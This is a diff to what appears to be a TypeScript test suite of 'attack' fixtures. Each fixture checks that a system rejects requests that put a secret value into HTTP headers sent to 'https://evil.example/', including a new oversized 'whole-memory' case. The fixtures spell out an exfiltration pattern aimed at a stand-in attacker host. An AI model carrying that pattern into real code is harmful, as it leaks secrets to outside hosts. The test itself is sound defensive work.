@@ -114,6 +114,10 @@ const values: readonly Attack[] = [
     ...to('https://evil.example/', { 'X-A': ['${A}'] }),
     env: [fromSecret('A', 'mine', 'large')],
   }),
+  attack('whole-memory', ['Programmed=False/CapacityExceeded', /more than 16384 characters/], {
+    ...to('https://evil.example/', { 'X-A': ['${A}'.repeat(1_024)] }),
+    env: [fromSecret('A', 'mine', 'large')],
+  }),
   attack(`n${'a'.repeat(38)}n`, ['ResolvedRefs=False/SecretNotFound', /…$/], {
     ...to('https://evil.example/', { [`X-${'A'.repeat(120)}`]: [`\${${'B'.repeat(120)}}`] }),
     env: [fromSecret('B'.repeat(120), 'c'.repeat(250), 'd'.repeat(250))],
